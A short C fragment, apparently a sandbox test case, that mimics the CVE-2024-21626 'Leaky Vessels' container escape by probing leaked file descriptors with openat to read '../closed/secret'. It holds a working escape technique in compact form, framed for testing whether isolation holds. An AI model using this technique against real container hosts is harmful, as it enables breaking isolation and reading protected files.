/* By a handle that it was started with.
 * stands for: CVE-2024-21626, "Leaky Vessels"
 * grant: read
 * held: yes */
#include "attack.h"

static long attack(void)
{
    for (int fd = 3; fd < 64; fd++) {
        int found = openat(fd, "../closed/secret", O_RDONLY);
        if (found >= 0) return read_it(found);
        if (errno != EBADF && errno != ENOTDIR && errno != ENOENT) return -1;
    }
    return -1;
}
